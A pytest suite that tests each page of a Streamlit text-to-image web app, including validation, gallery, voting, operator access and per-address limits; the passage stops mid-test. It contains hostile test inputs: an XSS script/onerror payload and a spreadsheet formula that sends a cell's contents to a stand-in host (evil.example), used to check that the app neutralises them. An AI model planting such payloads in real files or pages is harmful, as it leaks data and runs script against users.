"""Every page through Streamlit's AppTest, on a temporary database seeded by the real executor."""

import io
import math
import tomllib

import pytest
from PIL import Image
from streamlit.testing.v1 import AppTest

from t2i.service.executor import Executor, ExecutorConfig
from t2i.paths import ROOT
from t2i.service.queue import submit_job
from t2i.spec import MAX_IMAGE_BYTES, MAX_PROMPT_CHARS, MAX_SEARCH_CHARS, UPLOAD_CAP_MB
from t2i.store import Result, open_store
from t2i.upscale import names as upscale_names
from t2i.web.visitor import COOKIE, visitor_of

PROMPTS = ["a red circle", "a red circle", "a blue square", "a green triangle", "a small cat", "a large dog"]
KEY = "0123456789abcdef0123456789abcdef0123456789a"   # a visitor's cookie (43 URL-safe characters)
VISITOR = visitor_of(KEY)                            # the id the store keeps: a hash of the key
ADDRESS = "192.0.2.10"
# Each test runs the app (AppTest) a few times, a few seconds a run on two cores: the whole suite's.
pytestmark = pytest.mark.slow


def key(c: str) -> str:
    return c * 43


@pytest.fixture(scope="module")
def seeded(tmp_path_factory):
    """Six finished tiny-preset jobs (two presets), made by the real executor."""
    url = f"sqlite:///{tmp_path_factory.mktemp('pages') / 't2i.db'}"
    store = open_store(url)
    for i, prompt in enumerate(PROMPTS):
        preset = "tiny-vqgan-untrained" if i % 2 == 0 else "tiny-gumbel-untrained"
        submit_job(store, prompt, preset, iterations=2, cutn=2, save_every=1, seed=i)
    run_queue(url, cache_size=2)
    assert store.counts()["done"] == len(PROMPTS)
    yield url, store
    store.close()


class Client:
    """What a browser's WebSocket handshake gives a session: its cookies, headers and peer address.
    AppTest has no HTTP layer (it cannot seed st.context's cookies, headers or ip_address), so the
    `client` fixture puts this where Streamlit looks the handshake up. Pages read it through
    st.context as they would in a browser."""

    def __init__(self):
        self.cookies, self.headers, self.remote_ip = {}, [], None

    def be(self, key: str | None, address: str | None = ADDRESS, headers=()) -> None:
        self.cookies = {COOKIE: key} if key else {}
        self.remote_ip, self.headers = address, list(headers)


@pytest.fixture
def client(monkeypatch):
    c = Client()
    monkeypatch.setattr("streamlit.runtime.context._get_client_context", lambda: c)
    return c


@pytest.fixture
def app(seeded, monkeypatch, client):
    url, _ = seeded
    monkeypatch.setenv("T2I_DB", url)

    def make(page=None, visitor=KEY, address=ADDRESS, query=None, headers=()):
        """A fresh session (a new tab, or a reload) of the browser holding cookie `visitor`."""
        client.be(visitor, address, headers)
        at = AppTest.from_file(str(ROOT / "webapp.py"), default_timeout=60)
        for name, value in (query or {}).items():
            at.query_params[name] = value
        at.run()
        if page:
            at.switch_page(f"t2i/web/{page}.py").run()
        assert not at.exception, at.exception
        return at
    return make


def run_queue(url: str, cache_size: int) -> None:
    """A real executor on the database until its queue is empty (--once)."""
    executor = Executor(ExecutorConfig(db=url, once=True, cache_size=cache_size))
    executor.run()
    executor.close()


def button(at, label):
    matches = [b for b in at.button if b.label == label]
    assert matches, f"no button {label!r} in {[b.label for b in at.button]}"
    return matches[0]


def texts(at):
    return [t.value for t in at.text]


def markdown(at):
    return [m.value for m in at.markdown] + [c.value for c in at.caption]


def test_generate_submits_a_job_for_the_visitor(app, seeded):
    _, store = seeded
    at = app()
    at.text_area(key="prompt").input("a purple square at the top")
    at.selectbox(key="preset").select("tiny-vqgan-untrained")
    at.text_input(key="iterations").input("3")
    button(at, "Generate").click().run()
    assert not at.exception, at.exception
    job = store.jobs(submitter=VISITOR, limit=1)[0]
    assert job.prompt == "a purple square at the top" and job.total == 3 and job.status == "queued"
    assert any(f"Job {job.id} is queued at position" in s.value for s in at.success)
    assert "a purple square at the top" in texts(at)  # the watch view and "your recent jobs"
    store.cancel(job.id)


def test_the_advanced_options_are_the_chosen_presets_family(app, seeded):
    """A diffusion preset shows sampler, steps, guidance and samples (no cutouts, no image uploads);
    its job is queued with those options and its family."""
    _, store = seeded
    at = app()
    assert {n.key for n in at.text_input} >= {"iterations", "cutn"}
    at.selectbox(key="preset").select("tiny-diffusion-untrained").run()
    keys = {n.key for n in at.text_input}
    assert {"steps", "guidance", "num_samples", "cache"} <= keys and not {"iterations", "cutn"} & keys
    assert not at.get("file_uploader")
    at.text_area(key="prompt").input("a six")
    at.selectbox(key="sampler").select("dpm++")
    at.text_input(key="steps").input("7")
    at.text_input(key="num_samples").input("4")
    at.text_input(key="cache").input("3")
    button(at, "Generate").click().run()
    assert not at.exception, at.exception
    job = store.jobs(submitter=VISITOR, limit=1)[0]
    assert (job.preset, job.total, job.spec["family"], job.spec["sampler"], job.spec["num_samples"],
            job.spec["cache"]) == ("tiny-diffusion-untrained", 7, "diffusion", "dpm++", 4, 3)
    store.cancel(job.id)


def test_a_preset_narrows_the_sampler_choices_and_a_glide_job_counts_both_stages(app, seeded):
    """tiny-glide-untrained allows ddpm and ddim only; a sampler chosen for another preset falls back to
    the preset's default; the job's total is the base steps plus the upsampler's."""
    _, store = seeded
    at = app()
    at.selectbox(key="preset").select("tiny-diffusion-untrained").run()
    at.selectbox(key="sampler").select("dpm++").run()
    at.selectbox(key="preset").select("tiny-glide-untrained").run()
    assert not at.exception, at.exception
    assert at.selectbox(key="sampler").options == ["(preset default)", "ddpm", "ddim"]
    at.text_area(key="prompt").input("a red circle")
    at.text_input(key="steps").input("4")
    button(at, "Generate").click().run()
    assert not at.exception, at.exception
    job = store.jobs(submitter=VISITOR, limit=1)[0]
    assert (job.preset, job.total, job.spec["sampler"], job.spec["upsample_steps"]) == \
        ("tiny-glide-untrained", 4 + 3, "ddpm", 3)
    store.cancel(job.id)


def test_a_flowers_gan_job_from_the_page_runs_with_its_options(app, tmp_path, monkeypatch):
    """The gan family from the Generate page: its own options (frames, samples, noise scale), no
    sampler; the real executor finishes the job into a grid of 64x64 samples. Its own database."""
    url = f"sqlite:///{tmp_path / 't2i.db'}"
    monkeypatch.setenv("T2I_DB", url)
    store = open_store(url)
    at = app()
    at.selectbox(key="preset").select("flowers-gan").run()
    keys = {n.key for n in at.text_input}
    assert {"steps", "num_samples", "noise_scale"} <= keys and not {"sampler", "cutn"} & {n.key for n in at.selectbox}
    at.text_area(key="prompt").input("this flower has five pink petals and a yellow center")
    at.text_input(key="steps").input("3")
    at.text_input(key="num_samples").input("4")
    at.text_input(key="noise_scale").input("0.5")
    button(at, "Generate").click().run()
    assert not at.exception, at.exception
    job = store.jobs(submitter=VISITOR, limit=1)[0]
    assert (job.preset, job.total, job.spec["family"], job.spec["num_samples"], job.spec["noise_scale"]) == \
        ("flowers-gan", 3, "gan", 4, 0.5)
    run_queue(url, cache_size=1)
    assert store.get(job.id).status == "done", store.get(job.id).error
    result = store.result(job.id)
    # Each sample is 64x64 (the size reported); the PNG is their 2x2 grid.
    grid = Image.open(io.BytesIO(result.png))
    assert (result.width, result.parameters["family"]) == (64, "gan") and grid.width > 2 * 64
    store.close()


def test_a_shapes_ldm_job_from_the_page_is_queued_with_the_presets_defaults_and_runs(app, tmp_path, monkeypatch):
    """The trained latent diffusion preset end to end from the Generate page: its defaults (64x64,
    DDIM, guidance 5) reach the job, and the real executor finishes it into a 64x64 result. On a
    database of its own: the shared one's gallery counts stay as the other tests expect."""
    url = f"sqlite:///{tmp_path / 't2i.db'}"
    monkeypatch.setenv("T2I_DB", url)
    store = open_store(url)
    at = app()
    at.selectbox(key="preset").select("shapes-ldm").run()
    at.text_area(key="prompt").input("a large red circle on the left")
    at.text_input(key="steps").input("4")
    button(at, "Generate").click().run()
    assert not at.exception, at.exception
    job = store.jobs(submitter=VISITOR, limit=1)[0]
    assert (job.preset, job.total, job.spec["sampler"], job.spec["guidance"], job.spec["width"], job.spec["cache"]) == \
        ("shapes-ldm", 4, "ddim", 5.0, 64, 3)  # the preset's step caching: the executor runs it below
    run_queue(url, cache_size=1)
    assert store.get(job.id).status == "done", store.get(job.id).error
    result = store.result(job.id)
    assert (result.width, result.height) == (64, 64) and result.parameters["family"] == "diffusion"
    store.close()


def test_the_generate_page_offers_the_upscalers_and_queues_the_chosen_one(app, seeded, tmp_path, monkeypatch):
    """The upscalers of the weights registry (plus "none" and the preset's default) in a select; the
    chosen one reaches the job and counts as one more step."""
    import torch
    from spandrel.architectures.ESRGAN import ESRGAN

    registry = tmp_path / "weights.yaml"
    registry.write_text((ROOT / "configs" / "weights.yaml").read_text() + "\n"
                        "tiny-x2: {kind: esrgan, files: {upscale/tiny_x2.pth: []}}\n"
                        "absent-x4: {kind: esrgan, files: {upscale/absent_x4.pth: []}}\n")
    (tmp_path / "upscale").mkdir()
    torch.save(dict(ESRGAN(num_filters=8, num_blocks=1, scale=2).state_dict()), tmp_path / "upscale" / "tiny_x2.pth")
    monkeypatch.setenv("T2I_WEIGHTS_REGISTRY", str(registry))
    monkeypatch.setenv("T2I_CHECKPOINTS", str(tmp_path))
    _, store = seeded
    at = app()
    at.selectbox(key="preset").select("tiny-vqgan-untrained").run()
    select = at.selectbox(key="upscale")
    assert select.value is None and select.options[:2] == ["preset default (none)", "none"]
    names = [n for n in upscale_names() if n in ("tiny-x2", "absent-x4")]
    assert names == ["tiny-x2", "absent-x4"]
    assert "tiny-x2" in select.options and "absent-x4 (weights not downloaded)" in select.options
    at.text_area(key="prompt").input("a red circle")
    at.text_input(key="iterations").input("3")
    select.select("tiny-x2")
    button(at, "Generate").click().run()
    assert not at.exception, at.exception
    job = store.jobs(submitter=VISITOR, limit=1)[0]
    assert (job.prompt, job.total, job.spec["upscale"]) == ("a red circle", 4, ["tiny-x2"])
    store.cancel(job.id)


def test_a_diffusion_option_out_of_range_is_refused_on_the_page(app, seeded):
    _, store = seeded
    before = sum(store.counts().values())
    at = app(visitor=key("d"))
    at.selectbox(key="preset").select("tiny-diffusion-untrained").run()
    at.text_area(key="prompt").input("a six")
    at.text_input(key="num_samples").input("65")
    button(at, "Generate").click().run()
    assert any("num_samples: must be between 1 and 64" in t for t in texts(at)), texts(at)
    assert sum(store.counts().values()) == before


@pytest.mark.parametrize("field,value,message", [
    ("prompt", "", "prompt: is empty"),
    ("iterations", "0", "iterations: must be between 1"),
    ("width", "5000", "width: must be between 64 and"),
    ("cutn", "999", "cutn: must be between 1 and"),
    ("seed", "-3", "seed: must be between 0 and"),
    # The browser's number box read these as 1 and 64 (parseInt) and blocked values past its bounds
    # without a word; as text they reach make_spec as typed.
    ("iterations", "1e3", "iterations: must be a whole number, got '1e3'"),
    ("iterations", "64.5", "iterations: must be a whole number, got '64.5'"),
    ("width", "9" * 20, "width: must be between 64 and 1024, got " + "9" * 20),
    ("prompt", "a cat:10.0000001", "prompt: part 1 weight 10.0000001 is outside [-10, 10]"),
])
def test_bad_input_shows_a_message_and_inserts_nothing(app, seeded, field, value, message):
    _, store = seeded
    before = sum(store.counts().values())
    at = app(visitor=key("f"))
    at.text_area(key="prompt").input("a cat" if field != "prompt" else value)
    if field != "prompt":
        at.text_input(key=field).input(value)
    button(at, "Generate").click().run()
    assert not at.exception, at.exception
    assert any(message in t for t in texts(at)), texts(at)
    assert sum(store.counts().values()) == before


def refused(at, store, before, message):
    """The submission was refused with the one-line message, and nothing was inserted."""
    assert not at.exception, at.exception
    assert not at.success, [m.value for m in at.success]
    lines = [t for t in texts(at) if message in t]
    assert lines and all("\n" not in t and len(t) < 200 for t in lines), texts(at)
    assert sum(store.counts().values()) == before


def test_a_huge_seed_is_refused_with_a_short_message(app, seeded):
    _, store = seeded
    before = sum(store.counts().values())
    at = app(visitor=key("f"))
    at.text_area(key="prompt").input("a cat")
    at.text_input(key="seed").input("7" * 5000)
    button(at, "Generate").click().run()
    refused(at, store, before, "seed: must be between 0 and 9223372036854775807, got 777")
    assert any("(5000 characters)" in t for t in texts(at)), texts(at)


def png_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(out, format="PNG")
    return out.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><rect width="8" height="8"/></svg>'


@pytest.mark.parametrize("name,content,message", [
    ("drawing.svg", SVG, "init_image: is not a readable image (PNG, JPEG or WebP; UnidentifiedImageError)"),
    ("huge.png", png_bytes() + b"\0" * MAX_IMAGE_BYTES,
     f"init_image: is {len(png_bytes()) + MAX_IMAGE_BYTES:,} bytes; the limit is 10 MB"),
], ids=["svg", "over-10-MB"])
def test_an_upload_the_spec_refuses_stops_the_submission(app, seeded, name, content, message):
    """The uploaders filter nothing and let through more than the spec allows: the browser drops a
    file it refuses without telling the server, which then queued the job without the image."""
    _, store = seeded
    before = sum(store.counts().values())
    at = app(visitor=key("f"))
    uploader = at.file_uploader(key="init_image")
    assert not uploader.allowed_type and uploader.proto.max_upload_size_mb == UPLOAD_CAP_MB
    assert UPLOAD_CAP_MB * 2**20 > MAX_IMAGE_BYTES
    at.text_area(key="prompt").input("a cat")
    uploader.set_value((name, content, "application/octet-stream"))
    button(at, "Generate").click().run()
    refused(at, store, before, message)
    # The server's own cap is the widget's: a larger one would make the upload fail, again unseen.
    config = tomllib.loads((ROOT / ".streamlit/config.toml").read_text())
    assert config["server"]["maxUploadSize"] == UPLOAD_CAP_MB


def test_a_prompt_over_the_limit_is_cut_in_the_box_and_not_submitted(app, seeded):
    """A text area with max_chars drops a longer paste (the box stayed empty); now the box keeps the
    first MAX_PROMPT_CHARS characters, a line says so, and nothing is queued until Generate again."""
    _, store = seeded
    before = sum(store.counts().values())
    at = app(visitor=key("f"))
    pasted = "a lighthouse in a storm " * 60
    at.text_area(key="prompt").input(pasted)
    button(at, "Generate").click().run()
    assert not at.exception, at.exception
    kept = at.text_area(key="prompt").value
    assert len(kept) <= MAX_PROMPT_CHARS and pasted.startswith(kept) and len(kept) > MAX_PROMPT_CHARS - 30
    assert any(f"the prompt had {len(pasted.strip())} characters and was cut to {MAX_PROMPT_CHARS}" in w.value
               for w in at.warning), [w.value for w in at.warning]
    assert sum(store.counts().values()) == before
    button(at, "Generate").click().run()
    job = store.jobs(submitter=visitor_of(key("f")), limit=1)[0]
    assert job.prompt == kept and sum(store.counts().values()) == before + 1
    store.cancel(job.id)


def test_generate_again_fills_the_text_fields_with_the_jobs_settings(app, seeded):
    _, store = seeded
    done = store.gallery(search="blue square", limit=1)[0][0]["id"]
    at = app(visitor=key("9"))
    at.session_state["watching"] = done
    at.run()
    button(at, "Generate again with these settings").click().run()
    assert not at.exception, at.exception
    assert at.text_area(key="prompt").value == "a blue square"
    assert (at.text_input(key="iterations").value, at.text_input(key="cutn").value,
            at.text_input(key="seed").value) == ("2", "2", "2")


def test_markup_in_prompts_is_shown_as_literal_text(app, seeded):
    _, store = seeded
    nasty = "<script>alert(1)</script> **bold** [link](http://x) <img src=x onerror=alert(2)>"
    job_id = submit_job(store, nasty, "tiny-vqgan-untrained", submitter=visitor_of(key("e")), iterations=2)
    at = app(visitor=key("e"))
    assert nasty in texts(at)  # "your recent jobs" lists it as st.text
    assert not any("<script>" in m or "**bold**" in m for m in markdown(at))
    store.cancel(job_id)


def test_gallery_lists_searches_and_paginates(app, seeded, monkeypatch):
    at = app("gallery")
    captions = [c.value for c in at.caption]
    assert any(c.startswith(f"{len(PROMPTS)} matching") for c in captions), captions
    assert {p for p in PROMPTS} <= set(texts(at))
    at.text_input(key="gallery_search").input("RED").run()
    assert [t for t in texts(at) if t in PROMPTS] == ["a red circle", "a red circle"]
    at.text_input(key="gallery_search").input("").run()

    monkeypatch.setenv("T2I_GALLERY_PAGE_SIZE", "4")
    at = app("gallery")
    first = [t for t in texts(at) if t in PROMPTS]
    assert len(first) == 4 and any("page 1 of 2" in c.value for c in at.caption)
    button(at, "Next").click().run()
    second = [t for t in texts(at) if t in PROMPTS]
    assert len(second) == 2 and any("page 2 of 2" in c.value for c in at.caption)
    assert sorted(first + second) == sorted(PROMPTS)
    assert button(at, "Next").disabled


def test_a_search_longer_than_any_prompt_is_refused_with_a_line(app):
    at = app("gallery")
    at.text_input(key="gallery_search").input("a" * 50_001).run()
    assert not at.exception, at.exception
    assert [w.value for w in at.warning] == [
        f"Search not run: search: is 50001 characters; prompts are at most {MAX_SEARCH_CHARS}, "
        "so search for a shorter part of one"]
    assert not [t for t in texts(at) if t in PROMPTS]
    at.text_input(key="gallery_search").input("a" * MAX_SEARCH_CHARS).run()  # the limit itself is a search
    assert not at.exception and not at.warning and any(c.value.startswith("0 matching") for c in at.caption)


def test_back_from_details_keeps_the_search_and_the_page(app, monkeypatch):
    """The detail view draws no filters, so the browser forgot their values: "Back" showed an empty
    box over the old search's list, and the next click lost filter and page."""
    monkeypatch.setenv("T2I_GALLERY_PAGE_SIZE", "1")
    at = app("gallery")
    at.text_input(key="gallery_search").input("RED").run()
    button(at, "Next").click().run()
    assert any(c.value == "2 matching · page 2 of 2" for c in at.caption)
    [details] = [b for b in at.button if b.label == "Details"]
    details.click().run()
    button(at, "Back to the gallery").click().run()
    assert not at.exception, at.exception
    search = at.text_input(key="gallery_search")
    # What the browser is told to show: before, no value, so it showed its own (forgotten) one.
    assert search.value == "RED" and search.proto.value == "RED"
    assert any(c.value == "2 matching · page 2 of 2" for c in at.caption), [c.value for c in at.caption]
    button(at, "Previous").click().run()
    assert at.text_input(key="gallery_search").value == "RED"
    assert any(c.value == "2 matching · page 1 of 2" for c in at.caption), [c.value for c in at.caption]
    assert [t for t in texts(at) if t in PROMPTS] == ["a red circle"]


def test_gallery_detail_loads_gif_and_png_on_demand(app, seeded):
    _, store = seeded
    at = app("gallery")
    first = store.gallery(limit=1)[0][0]["id"]
    button_ = [b for b in at.button if b.key == f"detail-{first}"][0]
    button_.click().run()
    assert not at.exception, at.exception
    assert len(at.get("imgs")) >= 1 or len(at.get("image")) >= 1


def test_a_vote_is_stored_once_and_a_second_vote_on_the_pair_is_refused(app, seeded):
    _, store = seeded
    voter = visitor_of(key("a"))
    at = app("vote", visitor=key("a"))
    pair = at.session_state["vote_pair"]
    assert pair is not None and store.get(pair[0]).prompt == store.get(pair[1]).prompt == "a red circle"
    button(at, "Left is better").click().run()
    assert any("Recorded" in s.value for s in at.success)
    assert f"Left was: {store.get(pair[0]).preset}" in texts(at)  # presets revealed only now
    assert store.voted_pairs(voter) == {tuple(sorted(pair))}
    # The same visitor sees the same pair again (e.g. a second tab) and votes: refused, nothing stored.
    at2 = app("vote", visitor=key("a"))
    at2.session_state["vote_pair"] = pair
    at2.run()
    button(at2, "Right is better").click().run()
    assert any("already voted" in w.value for w in at2.warning)
    assert len([v for v in store.vote_records() if {v["left_job"], v["right_job"]} == set(pair)]) == 1


def hand_fit_gap(wins: int, losses: int, prior_sd: float) -> float:
    """Two presets, independent N(0, sd^2) priors: by symmetry theta = +-d/2 and the MAP gap d solves
    wins - (wins + losses) * sigmoid(d) - d / (2 sd^2) = 0. Bisection, independent of t2i.service.ranking."""
    lo, hi = -20.0, 20.0
    for _ in range(200):
        d = (lo + hi) / 2
        slope = wins - (wins + losses) / (1 + math.exp(-d)) - d / (2 * prior_sd ** 2)
        lo, hi = (d, hi) if slope > 0 else (lo, d)
    return 400 / math.log(10) * d


def test_leaderboard_matches_a_hand_computed_fit(tmp_path, monkeypatch):
    url = f"sqlite:///{tmp_path / 'votes.db'}"
    store = open_store(url)
    jobs = {}
    for preset in ("tiny-vqgan-untrained", "tiny-gumbel-untrained"):
        for i in range(4):
            job_id = submit_job(store, f"p{i}", preset, iterations=1)
            job = store.claim("w", 60)
            store.complete(job.lease, Result(job_id, b"g", b"p", b"t", {}, 8, 8, 1, 0.0))
            jobs.setdefault(preset, []).append(job_id)
    a, b = jobs["tiny-vqgan-untrained"], jobs["tiny-gumbel-untrained"]
    for i, choice in enumerate(["left", "left", "left", "right"]):  # vqgan wins 3 of 4
        assert store.vote(f"voter{i}", a[i], b[i], choice)
    assert store.vote("voter9", a[0], a[1], "left")  # same preset: no information
    monkeypatch.setenv("T2I_DB", url)
    at = AppTest.from_file(str(ROOT / "webapp.py"), default_timeout=60)
    at.run()
    at.switch_page("t2i/web/leaderboard.py").run()
    assert not at.exception, at.exception
    table = at.dataframe[0].value
    assert list(table["preset"]) == ["tiny-vqgan-untrained", "tiny-gumbel-untrained"]
    gap = hand_fit_gap(3, 1, prior_sd=2.0)
    assert table["score"][0] == round(1000 + gap / 2) and table["score"][1] == round(1000 - gap / 2)
    assert list(table["votes"]) == [4, 4] and list(table["wins"]) == [3, 1]
    assert any("5 votes" in c.value for c in at.caption)
    store.close()


def test_queue_page_shows_counts_executors_and_throughput(app, seeded):
    _, store = seeded
    store.worker_seen("gpu-host-7", host="gpu-host", device="cuda:0", job_id=None)
    at = app("queue_page")
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["done"] == str(store.counts()["done"]) and set(metrics) == set(store.counts())
    assert any("finished in the last minute" in c.value for c in at.caption)
    executors = at.dataframe[0].value
    assert "cuda:0" in list(executors["device"])


@pytest.mark.parametrize("page", ["generate", "gallery", "vote", "leaderboard", "queue_page"])
def test_every_page_says_in_one_line_that_the_database_is_not_reachable(page, monkeypatch, client):
    """Every page reads the shared, checked store (common.store), the Queue page included, which once
    opened a store of its own and then showed a generic error."""
    from t2i.web import common

    monkeypatch.setenv("T2I_DB", "postgresql://t2i_test:t2i_test@127.0.0.1:1/t2i")  # nothing listens on port 1
    client.be(KEY)
    at = AppTest.from_file(str(ROOT / "t2i" / "web" / f"{page}.py"), default_timeout=60)
    at.run()
    assert not at.exception and not at.error
    assert [w.value for w in at.warning] == [common.UNREACHABLE]


FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
LONG_ERROR = "internal error (OSError: /srv/t2i/checkpoints/secret-path/model.ckpt " + "x" * 200 + ")"
TOKEN = "operator-token-0123456789abcdef"


@pytest.fixture
def queue_app(tmp_path, monkeypatch):
    """A store of its own (claiming a job must not take another test's): a job whose prompt is a
    spreadsheet formula, a failed job with a long error, and one executor on host gpu-host."""
    url = f"sqlite:///{tmp_path / 'queue.db'}"
    store = open_store(url)
    failed = submit_job(store, "a cat", "tiny-vqgan-untrained", iterations=1)
    store.fail(store.claim("gpu-host-4242-abcdef", 60).lease, LONG_ERROR)
    formula = submit_job(store, FORMULA, "tiny-vqgan-untrained", iterations=1)
    store.worker_seen("gpu-host-4242-abcdef", host="gpu-host", device="cuda:0", job_id=None)
    monkeypatch.setenv("T2I_DB", url)
    monkeypatch.setenv("T2I_OPERATOR_TOKEN", TOKEN)

    def make(operator=None):
        at = AppTest.from_file(str(ROOT / "webapp.py"), default_timeout=60)
        if operator is not None:
            at.query_params["operator"] = operator
        at.run()
        at.switch_page("t2i/web/queue_page.py").run()
        assert not at.exception, at.exception
        executors, jobs = (d.value for d in at.dataframe)
        return at, executors, jobs.set_index("id")
    yield make, failed, formula
    store.close()


def cells(table) -> list[str]:
    return [str(v) for v in table.to_numpy().ravel()] + [str(c) for c in table.columns]


def test_queue_table_cells_are_safe_in_a_spreadsheet(queue_app):
    """The table's "Download as CSV" exports cells as they are: a prompt starting with = (or + - @ tab
    CR) gets a single quote in front (OWASP), so a spreadsheet shows it as text, not a formula."""
    make, _, formula = queue_app
    _, _, jobs = make()
    assert jobs.loc[formula, "prompt"] == "'" + FORMULA
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells(jobs))


def test_queue_page_hides_hosts_and_long_errors_from_visitors(queue_app):
    make, failed, _ = queue_app
    at, executors, jobs = make()
    assert list(executors["executor"]) == ["#1"] and list(executors["device"]) == ["cuda:0"]
    assert not any("gpu-host" in c or "4242" in c for c in cells(executors) + cells(jobs))
    error = jobs.loc[failed, "error"]
    assert error.startswith("internal error (OSError:") and error.endswith("...") and len(error) == 80
    # A wrong token is no token (and leaves the address like the right one).
    at, executors, _ = make(operator="guess")
    assert "host" not in executors.columns and "operator" not in at.query_params


def test_the_operator_sees_hosts_and_whole_errors(queue_app):
    make, failed, _ = queue_app
    at, executors, jobs = make(operator=TOKEN)
    assert "operator" not in at.query_params  # out of the address bar, history and bookmarks
    assert list(executors["executor"]) == ["gpu-host-4242-abcdef"] and list(executors["host"]) == ["gpu-host"]
    assert jobs.loc[failed, "error"] == LONG_ERROR
    at.switch_page("t2i/web/gallery.py").run()  # the session stays the operator's across pages
    at.switch_page("t2i/web/queue_page.py").run()
    assert "host" in at.dataframe[0].value.columns


def test_a_failed_jobs_error_in_the_gallery_is_whole_for_the_operator_only(queue_app):
    make, failed, _ = queue_app
    for operator, shown in [(None, LONG_ERROR[:77] + "..."), (TOKEN, LONG_ERROR)]:
        at, _, _ = make(operator)
        at.switch_page("t2i/web/gallery.py").run()
        at.selectbox(key="gallery_status").select("failed").run()
        [b for b in at.button if b.key == f"detail-{failed}"][0].click().run()
        assert not at.exception, at.exception
        assert shown in texts(at) and (operator or LONG_ERROR not in texts(at))


# --- identity and limits: a cookie says who a visitor is, the address what they may do ------------

def submit_on_page(at, prompt: str):
    at.text_area(key="prompt").input(prompt)
    at.text_input(key="iterations").input("1")
    button(at, "Generate").click().run()
    assert not at.exception, at.exception
    return at


def test_no_page_puts_a_credential_in_its_address(app):
    """The visitor id was in every address (?v=), so any shared link handed over the visitor's jobs."""
    for page in (None, "gallery", "vote", "leaderboard", "queue_page"):
        at = app(page)
        assert not dict(at.query_params), (page, dict(at.query_params))


def test_an_old_v_link_grants_nothing(app, seeded):
    _, store = seeded
    owner = submit_on_page(app(visitor=key("o"), address="198.51.100.20"), "the owner's own job")
    job = store.jobs(submitter=visitor_of(key("o")), limit=1)[0]
    assert job.prompt == "the owner's own job"
    # Someone else follows a link naming the owner the old way (and one with the owner's very key).
    for query in ({"v": visitor_of(key("o"))}, {"v": key("o")}):
        other = app(visitor=key("t"), address="198.51.100.21", query=query)
        assert "v" not in other.query_params                       # dropped from the address, unread
        assert "the owner's own job" not in texts(other)            # not "your recent jobs"
        other.session_state["watching"] = job.id
        other.run()
        assert "the owner's own job" in texts(other)                # watching is public
        assert not [b for b in other.button if b.label == "Cancel"]  # cancelling is not
    assert store.get(job.id).status == "queued"
    # The owner's browser (the cookie, in a new session) still holds it, and may cancel it.
    owner = app(visitor=key("o"), address="198.51.100.20")
    assert "the owner's own job" in texts(owner)
    button(owner, "Show").click().run()
    button(owner, "Cancel").click().run()
    assert store.get(job.id).status == "cancelled"


def test_without_a_cookie_the_jobs_are_the_sessions(app, seeded):
    _, store = seeded
    at = submit_on_page(app(visitor=None, address="198.51.100.22"), "a job of a cookieless tab")
    assert "a job of a cookieless tab" in texts(at)
    assert any("sent no cookie" in c.value for c in at.caption), [c.value for c in at.caption]
    (job,) = [j for j in store.jobs(limit=20) if j.prompt == "a job of a cookieless tab"]
    again = app(visitor=None, address="198.51.100.22")                # a reload: a new session, a new key
    assert "a job of a cookieless tab" not in texts(again)
    store.cancel(job.id)


def test_submission_limits_bind_to_the_address_not_the_visitor(app, seeded, monkeypatch):
    """With a fresh id per request, 12 of 12 submissions were accepted."""
    _, store = seeded
    monkeypatch.setenv("T2I_MAX_ACTIVE_PER_ADDRESS", "3")
    mine = []
    for c in "123":
        at = submit_on_page(app(visitor=key(c), address="198.51.100.30"), f"address limit {c}")
        assert any("is queued at position" in m.value for m in at.success)
        mine.append(store.jobs(submitter=visitor_of(key(c)), limit=1)[0].id)
    before = sum(store.counts().values())
    at = submit_on_page(app(visitor=key("4"), address="198.51.100.30"), "address limit 4")
    assert not at.success and "your address already has 3 jobs queued or running; wait for one to finish " \
        "or cancel one" in texts(at)
    assert sum(store.counts().values()) == before
    at = submit_on_page(app(visitor=key("4"), address="198.51.100.31"), "address limit 4")  # another address
    assert any("is queued at position" in m.value for m in at.success)
    mine.append(store.jobs(submitter=visitor_of(key("4")), limit=1)[0].id)
    assert [store._one("SELECT address FROM jobs WHERE id = ?", (i,))[0] for i in mine] == \
        ["198.51.100.30"] * 3 + ["198.51.100.31"]
    for job_id in mine:
        store.cancel(job_id)


@pytest.mark.parametrize("trusted,address", [(None, "local"), ("X-Forwarded-For", "203.0.113.77")])
def test_the_address_comes_from_the_proxy_header_only_when_trusted(app, seeded, monkeypatch, trusted, address):
    """Behind a proxy on the same host every peer is loopback; the header it adds names the visitor.
    Without the operator's word the header is not read (a client can send any), and the left-most
    entries, which the client wrote, never are."""
    _, store = seeded
    if trusted:
        monkeypatch.setenv("T2I_TRUSTED_PROXY_HEADER", trusted)
    visitor = key("x" if trusted else "y")
    submit_on_page(app(visitor=visitor, address=None, headers=[("X-Forwarded-For", "6.6.6.6, 203.0.113.77")]),
                   "through a proxy")
    job = store.jobs(submitter=visitor_of(visitor), limit=1)[0]
    assert store._one("SELECT address FROM jobs WHERE id = ?", (job.id,))[0] == address
    store.cancel(job.id)


def test_a_second_visitor_behind_one_address_cannot_vote_the_same_pair(app, seeded):
    """15 ids cast 15 votes, 5 on one pair; now one address has one vote per pair."""
    _, store = seeded
    first = app("vote", visitor=key("m"), address="198.51.100.40")
    pair = first.session_state["vote_pair"]
    button(first, "Left is better").click().run()
    assert any("Recorded" in s.value for s in first.success)
    second = app("vote", visitor=key("n"), address="198.51.100.40")
    offered = second.session_state["vote_pair"]
    assert offered is None or set(offered) != set(pair)           # not offered a pair it cannot vote on
    second.session_state["vote_pair"] = pair                       # a tab opened earlier still shows it
    second.run()
    button(second, "Right is better").click().run()
    assert not at_exception(second)
    assert any("this pair already has its votes from your address" in w.value for w in second.warning), \
        [w.value for w in second.warning]
    votes = [r for r in store.vote_records() if r["address"] == "198.51.100.40"]
    assert [(r["choice"], {r["left_job"], r["right_job"]} == set(pair)) for r in votes] == [("left", True)]


def at_exception(at):
    return list(at.exception)


# --- the preset guide on the Generate page (t2i/service/guide.py) ------------------------------------------

def test_choosing_shapes_shows_its_guide_words_and_three_examples(app):
    from t2i.data import shapes
    from t2i.service.guide import examples
    from t2i.presets import get_preset

    at = app(visitor=key("g"))
    at.selectbox(key="preset").select("shapes").run()
    assert not at.exception, at.exception
    shown = markdown(at)
    assert any("Family: guided" in m and "Good at: one or two coloured" in m and "no finished jobs yet" in m
